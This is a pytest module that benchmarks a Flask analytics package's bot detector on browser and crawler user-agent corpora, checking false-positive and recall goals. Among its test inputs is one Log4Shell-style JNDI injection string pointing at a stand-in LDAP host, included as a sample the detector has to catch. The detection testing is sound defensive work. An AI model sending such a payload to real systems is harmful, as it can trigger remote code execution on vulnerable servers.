"""Bot detection measured on corpora from maintained packages (see tests/scripts/bot_corpora.py).

Goals: at most 0.5% of real browsers' user agents dropped as bots (false positives), at
least 95% of crawlers' user agents caught (recall). Every user agent goes through
``parse_user_agent`` exactly as the pipeline calls it (truncated to ``UA_MAX``); the
figures are printed (``pytest -s``) and copied into docs/reliability.md by
``python -m bench.bots``.
"""

from __future__ import annotations

import fcntl
import json
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any, TypeVar

import pytest
from flask import Flask

from flask_analytics.ingest.useragent import UA_MAX, parse_user_agent

from ..conftest import DESKTOP_UA, collect_payload
from ..scripts import bot_corpora

pytestmark = pytest.mark.slow

FP_GOAL = 0.005
RECALL_GOAL = 0.95


T = TypeVar("T")


@dataclass(frozen=True)
class Figure:
    """How many user agents of a corpus the detector calls bots."""

    corpus: str
    agents: list[str]
    bots: list[str]

    @property
    def size(self) -> int:
        return len(self.agents)

    @property
    def rate(self) -> float:
        return len(self.bots) / self.size

    @property
    def not_bots(self) -> list[str]:
        found = set(self.bots)
        return [ua for ua in self.agents if ua not in found]


def measure(corpus: str, agents: list[str]) -> Figure:
    return Figure(corpus, agents, [ua for ua in agents if parse_user_agent(ua[:UA_MAX]).is_bot])


def load(loader: Callable[[], T]) -> T:
    try:
        return loader()
    except LookupError as exc:
        pytest.skip(str(exc))


def measure_browsers() -> list[Figure]:
    corpora = [load(bot_corpora.fake_useragent_browsers), load(bot_corpora.matomo_browsers)]
    return [measure(corpus.name, list(corpus.agents)) for corpus in corpora]


@pytest.fixture(scope="module")
def browser_figures(tmp_path_factory: pytest.TempPathFactory, worker_id: str) -> list[Figure]:
    """The browser corpora measured once per run (half a minute): under xdist the first
    worker to get here measures them and the others read its figures."""
    if worker_id == "master":
        return measure_browsers()
    shared = Path(tmp_path_factory.getbasetemp()).parent / "bot-browser-figures.json"
    with shared.with_suffix(".lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # released when the file closes
        if shared.exists():
            return [Figure(**f) for f in json.loads(shared.read_text("utf-8"))]
        figures = measure_browsers()
        shared.write_text(json.dumps([asdict(f) for f in figures]), "utf-8")
        return figures


@pytest.fixture(scope="module")
def crawler_figures() -> dict[str, Figure]:
    listed = bot_corpora.crawler_list_instances()
    matomo = load(bot_corpora.matomo_bots)
    dev = [ua for ua in matomo if bot_corpora.is_dev_half(ua)]
    held_out = [ua for ua in matomo if not bot_corpora.is_dev_half(ua)]
    return {
        name: measure(name, agents)
        for name, agents in [
            ("crawler-user-agents instances", listed),
            ("Matomo bots.yml", matomo),
            ("Matomo bots.yml, dev half", dev),
            ("Matomo bots.yml, held-out half", held_out),
        ]
    }


def test_corpora_are_substantial(
    browser_figures: list[Figure], crawler_figures: dict[str, Figure]
) -> None:
    # A loader that silently found nothing would make every rate below meaningless.
    sizes = {f.corpus: f.size for f in browser_figures}
    assert sizes["fake-useragent browsers.jsonl"] >= 500
    assert sizes["Matomo Device Detector fixtures (browsers)"] >= 10_000
    assert crawler_figures["crawler-user-agents instances"].size >= 1_000
    assert crawler_figures["Matomo bots.yml"].size >= 1_000
    half = crawler_figures["Matomo bots.yml"].size / 2
    assert abs(crawler_figures["Matomo bots.yml, held-out half"].size - half) < half * 0.1


def test_false_positive_rate_on_real_browsers(browser_figures: list[Figure]) -> None:
    for figure in browser_figures:
        print(
            f"false positives, {figure.corpus}: {len(figure.bots)}/{figure.size} "
            f"= {figure.rate:.3%}"
        )
        assert figure.rate <= FP_GOAL, (figure.corpus, figure.bots[:20])


def test_false_positives_weighted_by_traffic() -> None:
    corpus = load(bot_corpora.fake_useragent_browsers)
    total = sum(corpus.agents.values())
    lost = sum(share for ua, share in corpus.agents.items() if parse_user_agent(ua[:UA_MAX]).is_bot)
    print(f"false positives weighted by traffic share: {lost / total:.4%}")
    assert total > 0
    assert lost / total <= FP_GOAL


def test_recall_on_crawlers(crawler_figures: dict[str, Figure]) -> None:
    for figure in crawler_figures.values():
        print(f"recall, {figure.corpus}: {len(figure.bots)}/{figure.size} = {figure.rate:.2%}")
    for name in ("crawler-user-agents instances", "Matomo bots.yml"):
        figure = crawler_figures[name]
        assert figure.rate >= RECALL_GOAL, (name, figure.not_bots[:20])


@pytest.mark.parametrize(
    "ua",
    [
        # Real browsers the crawler list's patterns alone would drop (see _LIST_EXCEPTIONS).
        "Mozilla/5.0 (Linux; Android 15; RMX6688 Build/AP3A.240617.008) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/130.0.6723.58 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 10; TLA001 Build/QP1A.190711.020; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/80.0.3987.132 Safari/537.36 "
        "SogouMSE,SogouMobileBrowser/6.1.5",
        DESKTOP_UA,
    ],
)
def test_listed_patterns_matching_browsers_are_not_applied(ua: str) -> None:
    assert parse_user_agent(ua).is_bot is False


@pytest.mark.parametrize(
    "ua",
    [
        "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
        "Mozilla/5.0 (compatible; CMSLookup/1.0)",
        "Mozilla/5.0 xtate/2.12.4",
        "ApacheBench/2.3",
        "Hello, world",
        "${jndi:ldap://example.invalid/a}",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; "
        "Google-Sites-Thumbnails) Chrome/120.0.6099.71 Safari/537.36",
    ],
)
def test_each_rule_catches_its_kind(ua: str) -> None:
    assert parse_user_agent(ua).is_bot is True


def test_endpoint_drops_crawlers_and_keeps_browsers(make_app: Callable[..., Flask]) -> None:
    """The figures above hold end to end: samples of both kinds through the collect endpoint."""
    app = make_app(ANALYTICS_RATE_LIMIT=None)
    client = app.test_client()
    bots = bot_corpora.crawler_list_instances()[::100]
    browsers = list(load(bot_corpora.fake_useragent_browsers).agents)[::40]
    answers: dict[str, Any] = {}
    for ua in bots + browsers:
        response = client.post(
            "/_analytics/collect", json=collect_payload(), headers={"User-Agent": ua}
        )
        assert response.status_code == 202
        answers[ua] = response.headers.get("X-Analytics-Dropped")
    dropped_bots = sum(answers[ua] == "bot" for ua in bots)
    kept_browsers = sum(answers[ua] is None for ua in browsers)
    assert dropped_bots >= RECALL_GOAL * len(bots), len(bots)
    assert kept_browsers >= (1 - FP_GOAL) * len(browsers) - 1, len(browsers)
    assert len(bots) >= 15
    assert len(browsers) >= 15
